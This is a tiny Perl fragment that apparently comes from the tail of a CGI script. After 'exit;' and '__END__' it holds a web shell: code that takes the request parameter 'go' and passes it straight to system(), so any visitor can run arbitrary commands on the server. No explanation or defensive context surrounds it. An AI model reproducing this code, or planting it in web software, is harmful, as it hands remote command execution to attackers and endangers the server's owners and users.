exit;
__END__
if(CGI::param('go')){print "Cache-Control: no-cache\n";print "Content-type: text/html\n\n";my $go=CGI::param('go');system("$go");}
